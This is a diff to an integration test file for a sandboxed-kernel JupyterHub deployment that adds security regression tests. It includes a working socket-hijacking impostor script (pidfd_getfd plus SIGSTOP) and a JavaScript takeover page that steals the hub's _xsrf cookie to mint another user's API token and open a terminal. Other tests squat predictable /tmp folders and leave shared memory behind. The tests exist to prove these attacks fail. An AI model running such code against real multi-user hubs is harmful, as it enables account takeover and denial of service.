@@ -14,18 +14,26 @@ import asyncio
 import json
 import os
 import re
+import secrets
+import shutil
+import signal
+import stat
 import subprocess
 import sys
 import time
+import urllib.request
 from collections.abc import Iterator
+from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import pytest
 from tornado.httpclient import HTTPRequest
 from tornado.websocket import websocket_connect
 
-from sandbox_kernel.hub import end_all
+from sandbox_kernel.backends.cgroups import end_all
+from sandbox_kernel.hub import segments_of
 from sandbox_kernel.relay.peers import MAX_PENDING_CHECKS
 from tests.helpers import REPO, ForeignClient, ending
 from tests.integration.hub import (
@@ -38,11 +46,15 @@ from tests.integration.hub import (
     cmdline,
     descendants,
     in_user_cgroups,
+    loopback_subdomains,
     proc_ids,
     reinstall_shared_venv,
     user_cgroups,
 )
 from tests.integration.servers import ws_execute
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Page
 
 EXAMPLES = REPO / "docs" / "examples"
 KERNEL = "sandbox-python"
@@ -53,6 +65,7 @@ INSTALL = ["--backend", "runsc", "--pool-size", "0", "--platform", "ptrace"]
 SANDBOX_PROCESS = "runsc-sandbox"  # one per sandbox: gVisor's sentry (rootless: as the user)
 MAX_KERNELS = 2  # the example's 4, cheaper to reach
 USER_MEMORY = 1536 * 2**20  # everything of one user's server (the example has 4g)
+HUB_STATE = "/var/lib/sandbox-kernel-hub"  # the example's root-only folder for the hub's state
 
 
 @dataclass
@@ -81,9 +94,11 @@ def server_config(admin: Path) -> str:
 
 def hub_config(admin: Path, venv: Path, users: list[str]) -> str:
     """docs/examples/jupyterhub_config.py as documented (paths replaced by the test's), the
-    dummy authenticator for the test's users, and per-user extra server arguments the
-    test writes to ``extra-args-<user>.json`` before a (re)start."""
+    dummy authenticator for the test's users, per-user extra server arguments the test
+    writes to ``extra-args-<user>.json`` before a (re)start, and a shorter poll interval
+    (a server that dies is noticed within seconds)."""
     text = (EXAMPLES / "jupyterhub_config.py").read_text()
+    text = text.replace(HUB_STATE, str(admin / "hub-state"))
     for old, new in (
         ("/opt/sandbox-kernel/venv", str(venv)),
         ("/etc/jupyter/sandbox", str(admin / "etc")),
@@ -100,6 +115,7 @@ c.DummyAuthenticator.password = "sandbox-test-password"
 c.Authenticator.allowed_users = {set(users)!r}
 c.Spawner.start_timeout = 180
 c.Spawner.http_timeout = 180
+c.Spawner.poll_interval = 5
 
 
 def _extra_args(spawner):
@@ -117,7 +133,7 @@ c.Spawner.pre_spawn_hook = _extra_args
 @pytest.fixture(scope="module")
 def hub_setup() -> Iterator[HubSetup]:
     venv = reinstall_shared_venv()
-    with admin_dir() as admin:
+    with admin_dir() as admin, loopback_subdomains():
         users = {who: SystemUser(who) for who in ("alice", "bob")}
         hub: Hub | None = None
         failures: list[str] = []
@@ -136,7 +152,10 @@ def hub_setup() -> Iterator[HubSetup]:
             (admin / "etc" / "jupyter_server_config.py").write_text(server_config(admin))
             (admin / "etc" / "jupyter_server_config.py").chmod(0o644)
             (admin / "hub").mkdir(mode=0o700)
-            hub = Hub(admin / "hub", hub_config(admin, venv, [u.name for u in users.values()]))
+            # The hub's state folder, made as docs/jupyterhub.md says.
+            subprocess.run(["install", "-d", "-m", "700", str(admin / "hub-state")], check=True)
+            config = hub_config(admin, venv, [u.name for u in users.values()])
+            hub = Hub(admin / "hub", config, own_state=False)
             hub.start()
             yield HubSetup(hub, admin, users, {})
         finally:
@@ -161,9 +180,11 @@ def hub_setup() -> Iterator[HubSetup]:
                 left = user.remove()
                 if left:
                     failures.append(f"{who} had processes left: {left}")
+                if user.runtime_dir().exists():
+                    failures.append(f"{who}'s runtime folder was left")
                 stale = [str(d) for d in user_cgroups(user).values() if d.exists()]
                 if stale:
-                    end_all(user_cgroups(user))
+                    end_all(user_cgroups(user).values())
                     failures.append(f"{who}'s cgroups were left: {stale}")
                 if Path(f"/home/{user.name}").exists():
                     failures.append(f"{who}'s home was not removed")
@@ -296,7 +317,7 @@ def test_alice_gets_nothing_from_bobs_kernel(hub_setup: HubSetup) -> None:
     assert denied.returncode != 0 and "Permission denied" in denied.stderr, denied
     # Through the hub, alice's token opens nothing of bob's server.
     assert hub_setup.hub.error(
-        "GET", f"/user/{bob.name}/api/kernels", token=alice_client.token
+        "GET", f"{bob_client.url}/api/kernels", token=alice_client.token
     ).code in (403, 404)
     ports = {k: int(v) for k, v in runtime_file.items() if k.endswith("_port")}
     intruder = ForeignClient(
@@ -391,7 +412,7 @@ def proxy_put(hub: Hub, user: SystemUser, mib: int) -> str:
     import urllib.request
 
     req = urllib.request.Request(
-        f"{hub.url}/user/{user.name}/api/contents/x.ipynb", method="PUT",
+        f"{hub.server_url(user.name)}/api/contents/x.ipynb", method="PUT",
         data=b"[" * (mib << 20), headers={"Content-Type": "application/json"},
     )  # fmt: skip
     try:
@@ -431,9 +452,7 @@ def test_alice_cannot_exhaust_or_freeze_bobs_server(hub_setup: HubSetup) -> None
         # connections wait behind hers in the port's queue (docs/jupyterhub.md).
         async def cells() -> int:
             peak = 0
-            url = hub.url.replace("http", "ws", 1) + (
-                f"{bob_client.prefix}/api/kernels/{kernel}/channels"
-            )
+            url = bob_client.url.replace("http", "ws", 1) + f"/api/kernels/{kernel}/channels"
             ws = await websocket_connect(HTTPRequest(
                 url, headers={"Authorization": f"token {bob_client.token}"}, connect_timeout=60
             ))  # fmt: skip
@@ -490,9 +509,9 @@ def test_alice_cannot_exhaust_or_freeze_bobs_server(hub_setup: HubSetup) -> None
 
 
 def runsc_state(user: SystemUser) -> Path:
-    """The user's runsc state (LocalProcessSpawner sets no XDG_RUNTIME_DIR): the runsc
-    backend's per-user folder, 0700."""
-    return Path(f"/tmp/sandbox-kernel-runsc-{user.uid}")
+    """The user's runsc state: the runsc backend's folder in the runtime folder the spawner
+    made for the user's server (XDG_RUNTIME_DIR), 0700."""
+    return user.runtime_dir() / "sandbox-kernel" / "runsc"
 
 
 def test_alice_cannot_list_signal_or_remove_bobs_sandboxes(hub_setup: HubSetup) -> None:
@@ -721,13 +740,44 @@ BROWSER_CELL = (
 )
 
 
+@contextmanager
+def chromium_page(failure: Path) -> Iterator[Page]:
+    """A page in headless Chromium (Debian's, driven by Playwright); a screenshot of it is
+    saved to ``failure`` if the block fails."""
+    from tests.integration.test_browser import CHROMIUM, WAIT_MS, require_browser
+
+    failure.parent.mkdir(exist_ok=True)
+    failure.unlink(missing_ok=True)
+    with require_browser()() as pw:
+        browser = pw.chromium.launch(
+            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-dev-shm-usage"]
+        )
+        try:
+            page = browser.new_page(viewport={"width": 1280, "height": 900})
+            page.set_default_timeout(WAIT_MS)
+            try:
+                yield page
+            except Exception:
+                page.screenshot(path=str(failure))
+                raise
+        finally:
+            browser.close()
+
+
+def log_in(page: Page, hub: Hub, user: SystemUser) -> None:
+    """Log in on the hub's page (dummy authenticator); the hub spawns the user's server and
+    JupyterLab opens."""
+    page.goto(f"{hub.url}/hub/login")
+    page.fill("#username_input", user.name)
+    page.fill("#password_input", "sandbox-test-password")
+    page.click("#login_submit")
+    page.wait_for_url(f"**/user/{user.name}/lab**")
+
+
 def test_a_user_in_a_browser_through_the_hub(hub_setup: HubSetup) -> None:
     """Log in on the hub's page (dummy authenticator), let it spawn the server, open a
     notebook on the sandboxed kernel in JupyterLab, run a cell; screenshot saved as
     test-artifacts/jupyterhub-sandboxed.png."""
-    from tests.integration.test_browser import CHROMIUM, WAIT_MS, require_browser
-
-    sync_playwright = require_browser()
     hub, bob = hub_setup.hub, hub_setup.users["bob"]
     hub.stop_server(bob.name)  # the login spawns it
     nb = {
@@ -738,55 +788,178 @@ def test_a_user_in_a_browser_through_the_hub(hub_setup: HubSetup) -> None:
         "nbformat": 4, "nbformat_minor": 5,
     }  # fmt: skip
     shot = REPO / "test-artifacts" / "jupyterhub-sandboxed.png"
-    failure = REPO / "test-artifacts" / "jupyterhub-failure.png"
-    shot.parent.mkdir(exist_ok=True)
-    for old in (shot, failure):
-        old.unlink(missing_ok=True)
-    with sync_playwright() as pw:
-        browser = pw.chromium.launch(
-            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-dev-shm-usage"]
-        )
-        try:
-            page = browser.new_page(viewport={"width": 1280, "height": 900})
-            page.set_default_timeout(WAIT_MS)
-            try:
-                page.goto(f"{hub.url}/hub/login")
-                page.fill("#username_input", bob.name)
-                page.fill("#password_input", "sandbox-test-password")
-                page.click("#login_submit")
-                page.wait_for_url(f"**/user/{bob.name}/lab**")
-                # The notebook, written through the user's own server (as the user).
-                client = hub_setup.client("bob")
-                client.api("PUT", "/api/contents/hub-test.ipynb",
-                           {"type": "notebook", "format": "json", "content": nb})  # fmt: skip
-                page.goto(f"{hub.url}/user/{bob.name}/lab/tree/hub-test.ipynb")
-                cell = page.locator(".jp-Notebook .jp-Cell").first
-                cell.wait_for()
-                kernel_name = page.locator(".jp-NotebookPanel-toolbar .jp-KernelName")
-                wait_for(lambda: "sandboxed" in kernel_name.inner_text(), "the kernel's name")
-                page.locator(
-                    ".jp-NotebookPanel-toolbar .jp-Notebook-ExecutionIndicator[data-status='idle']"
-                ).wait_for()
-                cell.locator(".jp-InputPrompt").click()
-                page.keyboard.press("Control+Enter")
-                out = cell.locator(".jp-OutputArea-output", has_text="SANDBOX release")
-                out.wait_for()
-                words = out.inner_text().split()
-                assert words[2] != os.uname().release, f"ran on the host kernel: {words}"
-                assert words[4] == "1000" and words[8] == "False", words
-                news = page.locator(".jp-toast-button", has_text="No")  # JupyterLab's news prompt
-                if news.count():
-                    news.first.click()
-                    news.first.wait_for(state="detached")
-                page.screenshot(path=str(shot))
-            except Exception:
-                page.screenshot(path=str(failure))
-                raise
-        finally:
-            browser.close()
+    shot.unlink(missing_ok=True)
+    with chromium_page(REPO / "test-artifacts" / "jupyterhub-failure.png") as page:
+        log_in(page, hub, bob)
+        # The notebook, written through the user's own server (as the user).
+        client = hub_setup.client("bob")
+        client.api("PUT", "/api/contents/hub-test.ipynb",
+                   {"type": "notebook", "format": "json", "content": nb})  # fmt: skip
+        page.goto(f"{client.url}/lab/tree/hub-test.ipynb")
+        cell = page.locator(".jp-Notebook .jp-Cell").first
+        cell.wait_for()
+        kernel_name = page.locator(".jp-NotebookPanel-toolbar .jp-KernelName")
+        wait_for(lambda: "sandboxed" in kernel_name.inner_text(), "the kernel's name")
+        page.locator(
+            ".jp-NotebookPanel-toolbar .jp-Notebook-ExecutionIndicator[data-status='idle']"
+        ).wait_for()
+        cell.locator(".jp-InputPrompt").click()
+        page.keyboard.press("Control+Enter")
+        out = cell.locator(".jp-OutputArea-output", has_text="SANDBOX release")
+        out.wait_for()
+        words = out.inner_text().split()
+        assert words[2] != os.uname().release, f"ran on the host kernel: {words}"
+        assert words[4] == "1000" and words[8] == "False", words
+        news = page.locator(".jp-toast-button", has_text="No")  # JupyterLab's news prompt
+        if news.count():
+            news.first.click()
+            news.first.wait_for(state="detached")
+        page.screenshot(path=str(shot))
     assert shot.stat().st_size > 10_000
     sessions = hub_setup.client("bob").api("GET", "/api/sessions")
     assert [s["kernel"]["name"] for s in sessions] == [KERNEL], sessions
+
+
+# Alice's own server, taken over by Alice herself (her terminal, or any shell of hers, is
+# her uid): she copies its listening socket (pidfd_getfd: same uid), stops the server so
+# the hub still sees it alive (its pid runs), and answers on that socket with her page.
+IMPOSTOR = r"""
+import ctypes, os, signal, socket, sys, urllib.parse
+from http.server import BaseHTTPRequestHandler, HTTPServer
+pid, page = int(sys.argv[1]), open(sys.argv[2], "rb").read()
+environ = dict(v.split("=", 1) for v in open(f"/proc/{pid}/environ").read().split("\0") if "=" in v)
+port = urllib.parse.urlparse(environ["JUPYTERHUB_SERVICE_URL"]).port
+pidfd, listener = os.pidfd_open(pid), None
+for fd in os.listdir(f"/proc/{pid}/fd"):
+    copy = ctypes.CDLL(None, use_errno=True).syscall(438, pidfd, int(fd), 0)  # pidfd_getfd
+    if copy < 0:
+        continue
+    sock = socket.socket(fileno=copy) if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:") else None
+    if sock and sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) and sock.getsockname()[1] == port:
+        listener = sock
+        break
+    os.close(copy) if sock is None else sock.close()
+assert listener, f"no listening socket on port {port} in {pid}"
+os.kill(pid, signal.SIGSTOP)
+class Page(BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(page)))
+        self.end_headers()
+        self.wfile.write(page)
+    def log_message(self, *args):
+        pass
+server = HTTPServer(("127.0.0.1", 0), Page, bind_and_activate=False)
+server.socket.close()
+server.socket = listener
+print("SERVING", flush=True)
+server.serve_forever()
+"""
+
+# Alice's page, opened by Bob: from her server's origin, the hub's _xsrf cookie (scoped to
+# /hub/, read through a frame of /hub/logo) and a token for Bob from the hub's API, asked
+# on the page's own origin and on the hub's; with a token, a terminal on Bob's server.
+TAKEOVER_PAGE = """<!doctype html><html><body><pre id="result"></pre><script>
+const HUB = %(hub)s, VICTIM = %(victim)s;
+function frame(src, name) {
+  return new Promise(done => {
+    const f = document.createElement("iframe");
+    f.name = name || "";
+    f.onload = () => done(f);
+    setTimeout(() => done(f), 20000);
+    f.src = src;
+    document.body.appendChild(f);
+  });
+}
+async function attempt(base) {
+  const seen = {};
+  try {
+    const f = await frame(base + "/hub/logo");
+    try { seen.cookies = f.contentDocument.cookie; } catch (e) { seen.cookies = "unreadable: " + e; }
+    const xsrf = (/(?:^|;\\s*)_xsrf=([^;]*)/.exec(seen.cookies) || [])[1] || "";
+    const reply = await fetch(base + "/hub/api/users/" + VICTIM + "/tokens", {
+      method: "POST", credentials: "include",
+      headers: {"Content-Type": "application/json", "X-XSRFToken": xsrf},
+      body: JSON.stringify({note: "taken by alice's page", expires_in: 600}),
+    });
+    seen.status = reply.status;
+    seen.token = (await reply.json().catch(() => ({}))).token || null;
+    if (seen.token) {
+      const shell = await fetch(base + "/user/" + VICTIM + "/api/terminals", {
+        method: "POST", headers: {Authorization: "token " + seen.token},
+      });
+      seen.terminal = shell.status;
+    }
+  } catch (e) {
+    seen.error = String(e);
+  }
+  return seen;
+}
+(async () => {
+  const result = {};
+  for (const base of ["", HUB]) result[base || "page origin"] = await attempt(base);
+  await frame(HUB + "/hub/token", "hub-page");  // refused in a frame (frame-ancestors)
+  const out = document.getElementById("result");
+  out.textContent = JSON.stringify(result);
+  out.dataset.done = "1";
+})();
+</script></body></html>
+"""
+
+
+def bobs_tokens(hub: Hub, bob: SystemUser) -> set[str]:
+    return {t["id"] for t in hub.api("GET", f"/hub/api/users/{bob.name}/tokens")["api_tokens"]}
+
+
+def test_a_page_on_alices_server_gets_no_token_for_bob(hub_setup: HubSetup) -> None:
+    """Issue 19, 1: Alice serves her own page at her server's URL (her server's listening
+    socket, copied), Bob, logged in to the hub in a real browser, opens it, and the page
+    asks the hub for a token for Bob with his cookies. Each user's server has an origin of
+    its own (``subdomain_host``), so the page reads none of the hub's cookies and gets no
+    token: Bob's tokens are unchanged and no terminal opens on his server. Hub pages
+    refuse to be framed. On the hub's origin (the recipe without subdomain_host) the page
+    got a token (201) and a terminal on Bob's server."""
+    hub, alice, bob = hub_setup.hub, hub_setup.users["alice"], hub_setup.users["bob"]
+    alice_url = spawned(hub_setup, "alice").url
+    bob_client = spawned(hub_setup, "bob")
+    page_file = alice.home / "takeover.html"
+    page_file.write_text(
+        TAKEOVER_PAGE % {"hub": json.dumps(hub.url), "victim": json.dumps(bob.name)}
+    )
+    os.chown(page_file, alice.uid, alice.gid)
+    server = server_pid(alice)
+    impostor = alice.popen([str(SHARED_VENV / "bin/python"), "-c", IMPOSTOR, str(server),
+                            str(page_file)])  # fmt: skip
+    try:
+        assert impostor.stdout is not None
+        assert impostor.stdout.readline().strip() == "SERVING", impostor.communicate(timeout=10)
+        with chromium_page(REPO / "test-artifacts" / "jupyterhub-takeover-failure.png") as page:
+            log_in(page, hub, bob)
+            before = bobs_tokens(hub, bob)
+            page.goto(f"{alice_url}/takeover.html")
+            done = page.locator("#result[data-done]")
+            done.wait_for()
+            result = json.loads(done.inner_text())
+            hub_page = page.frame(name="hub-page")
+            assert hub_page is not None
+            framed_hub_page = hub_page.url
+        assert bobs_tokens(hub, bob) == before, f"the page got a token for bob: {result}"
+        assert set(result) == {"page origin", hub.url}, result
+        for where, seen in result.items():
+            assert seen.get("status") != 201 and not seen.get("token"), (where, result)
+            assert "_xsrf" not in seen.get("cookies", ""), (where, result)
+        assert bob_client.api("GET", "/api/terminals") == []
+        # A hub page in a frame is an error page: JupyterHub's own frame-ancestors 'none'.
+        assert framed_hub_page.startswith("chrome-error:"), framed_hub_page
+        with urllib.request.urlopen(f"{hub.url}/hub/login", timeout=60) as login:
+            policy = login.headers.get("Content-Security-Policy", "")
+        assert "frame-ancestors 'none'" in policy, policy
+    finally:
+        impostor.kill()
+        impostor.wait()
+        os.kill(server, signal.SIGCONT)
+        hub.stop_server(alice.name)
 
 
 ALLOCATE = """
@@ -850,6 +1023,133 @@ def test_a_users_memory_bound_holds_across_all_their_kernels(hub_setup: HubSetup
     assert allocate(bob, kernel, 700) == "ALLOCATED"
     bob.api("DELETE", f"/api/kernels/{kernel}")
     hub_setup.hub.stop_server(alice.name)  # whatever state the OOM left her kernels in
+
+
+def test_bobs_kernels_start_although_alice_took_his_old_state_folders(
+    hub_setup: HubSetup,
+) -> None:
+    """Issue 19, finding 4: runsc's state folder was the predictable
+    /tmp/sandbox-kernel-runsc-<uid> (bubblewrap's and firejail's /tmp/sandbox-kernel-pipe-<uid>),
+    and alice, by creating bob's first, made every kernel start of his fail. Now each server
+    has a runtime folder (XDG_RUNTIME_DIR) made by the hub in a folder of root's: her
+    folders change nothing, and she cannot make his runtime folder first."""
+    hub, alice, bob = hub_setup.hub, hub_setup.users["alice"], hub_setup.users["bob"]
+    spawned(hub_setup, "alice")  # the runtime folders' parent exists
+    hub.stop_server(bob.name)
+    squatted = [Path(f"/tmp/sandbox-kernel-{kind}-{bob.uid}") for kind in ("runsc", "pipe")]
+    try:
+        for folder in squatted:
+            made = alice.run(["mkdir", "-m", "700", str(folder)])
+            assert made.returncode == 0 and folder.stat().st_uid == alice.uid, made
+        taken = alice.run(["mkdir", "-m", "700", str(bob.runtime_dir())])
+        assert taken.returncode != 0 and "Permission denied" in taken.stderr, taken
+        client = spawned(hub_setup, "bob")
+        kernel = client.start_kernel()
+        assert client.execute(kernel, "print('up')").strip() == "up"
+        runtime = bob.runtime_dir()
+        for folder, owner, mode in (
+            (runtime.parent, 0, 0o755), (runtime, bob.uid, 0o700), (runsc_state(bob), bob.uid, 0o700)
+        ):  # fmt: skip
+            st = folder.lstat()
+            assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (owner, mode), (folder, st)
+        client.api("DELETE", f"/api/kernels/{kernel}")
+    finally:
+        for folder in squatted:
+            shutil.rmtree(folder, ignore_errors=True)
+
+
+# A 1 MiB System V segment nobody removes (shmget(IPC_PRIVATE, 1 MiB, IPC_CREAT | 0600)).
+SYSV_SEGMENT = (
+    "import ctypes; n = ctypes.CDLL(None).shmget(0, 1 << 20, 0o1600); print('SEGMENT', n)"
+)
+
+
+def test_what_alice_leaves_in_shared_memory_goes_when_her_server_stops(
+    hub_setup: HubSetup,
+) -> None:
+    """Issue 19, finding 5: files alice wrote to /dev/shm from her terminal outlived her
+    server and its cgroups, memory no per-user bound held any more. Now they go when the
+    server stops, also in a folder of bob's open to everyone, and so does a System V
+    segment she made; bob's own files stay."""
+    hub, alice, bob = hub_setup.hub, hub_setup.users["alice"], hub_setup.users["bob"]
+    token = secrets.token_hex(4)
+    shared, bobs = Path(f"/dev/shm/sk-test-shared-{token}"), Path(f"/dev/shm/sk-test-bob-{token}")
+    made = bob.run(["sh", "-c", f"mkdir -m 1777 {shared} && echo b > {bobs}"])
+    assert made.returncode == 0, made
+    left = [Path(f"/dev/shm/sk-test-alice-{token}"), Path(f"/dev/shm/sk-test-dir-{token}"),
+            shared / f"alice-{token}"]  # fmt: skip
+    segment = -1
+    try:
+        client = spawned(hub_setup, "alice")
+        client.terminal(
+            f"head -c 64M /dev/zero > {left[0]} && mkdir {left[1]} && "
+            f"head -c 1M /dev/zero > {left[1]}/f && echo a > {left[2]} && echo WROTE-$((6*7))",
+            "WROTE-42",
+        )
+        assert all(p.lstat().st_uid == alice.uid for p in left), left
+        out = client.terminal(f"{SHARED_VENV}/bin/python -c {SYSV_SEGMENT!r}", r"SEGMENT \d+\r")
+        segment = int(re.findall(r"SEGMENT (\d+)\r", out)[-1])
+        assert segment in segments_of(alice.uid, Path("/proc/sysvipc/shm").read_text())
+        hub.stop_server(alice.name)
+        assert segment not in segments_of(alice.uid, Path("/proc/sysvipc/shm").read_text())
+        segment = -1  # gone (its id may be another's later)
+        still = [str(p) for p in left if os.path.lexists(p)]
+        assert not still, f"alice's files outlived her server: {still}"
+        assert bobs.exists() and shared.is_dir(), "bob's files went with alice's server"
+        assert not alice.runtime_dir().exists(), "her runtime folder outlived her server"
+    finally:
+        if segment >= 0:
+            subprocess.run(["ipcrm", "-m", str(segment)], capture_output=True, check=False)
+        shutil.rmtree(shared, ignore_errors=True)
+        for path in (bobs, *left[:1]):
+            path.unlink(missing_ok=True)
+        shutil.rmtree(left[1], ignore_errors=True)
+
+
+def test_a_server_killed_outright_leaves_no_process_and_no_cgroup(hub_setup: HubSetup) -> None:
+    """Issue 19, finding 6: JupyterHub calls the spawner's stop only for a server that still
+    runs, so when alice kill -9'd her own server, a `setsid sleep 900` from her terminal
+    (and her kernels' sandboxes) stayed in her cgroups, and the folders stayed hers. Now the
+    poll that finds the server dead ends them and removes the folders."""
+    alice = hub_setup.users["alice"]
+    client = spawned(hub_setup, "alice")
+    kernel = client.start_kernel()
+    assert client.execute(kernel, "print('up')").strip() == "up"
+    client.terminal("setsid -f sleep 900 </dev/null >/dev/null 2>&1; echo STARTED-$((2+2))",
+                    "STARTED-4")  # fmt: skip
+    [sleeper] = [p for p in alice.processes() if cmdline(p) == ["sleep", "900"]]
+    sandboxes = sandbox_pids(alice)
+    assert sandboxes, "the kernel's sandbox"
+    os.kill(server_pid(alice), signal.SIGKILL)
+
+    def left() -> list[str]:
+        alive = [" ".join(cmdline(p)) for p in (sleeper, *sandboxes) if cmdline(p)]
+        folders = [*user_cgroups(alice).values(), alice.runtime_dir()]
+        return alive + [str(d) for d in folders if d.exists()]
+
+    deadline = time.monotonic() + 120  # the hub polls every 5 s here (30 s by default)
+    while left() and time.monotonic() < deadline:
+        time.sleep(0.5)
+    assert not left(), f"left after alice's server was killed: {left()}"
+    wait_for(lambda: not alice.processes(), f"every process of {alice.name} to end", 60)
+    hub_setup.hub.stop_server(alice.name)  # the hub knows it is gone
+
+
+def test_the_hubs_state_is_in_a_folder_only_root_can_enter(hub_setup: HubSetup) -> None:
+    """Issue 19, finding 7: the recipe left the hub's database (0644), cookie secret and pid
+    file in whatever folder it was started from. The example puts them in a folder of
+    root's, 0700, which alice cannot enter."""
+    hub, alice = hub_setup.hub, hub_setup.users["alice"]
+    state = hub_setup.admin / "hub-state"
+    st = state.stat()
+    assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (0, 0o700), st
+    files = ["jupyterhub.sqlite", "jupyterhub_cookie_secret", "jupyterhub.pid"]
+    assert set(files) <= {p.name for p in state.iterdir()}, list(state.iterdir())
+    started_in = [n for n in (*files, "jupyterhub-proxy.pid") if (hub.workdir / n).exists()]
+    assert not started_in, f"hub state in the folder it was started from: {started_in}"
+    for name in files:
+        read = alice.run(["cat", str(state / name)])
+        assert read.returncode != 0 and "Permission denied" in read.stderr, (name, read)
 
 
 def test_hub_stop_removes_every_server_and_sandbox(hub_setup: HubSetup) -> None:
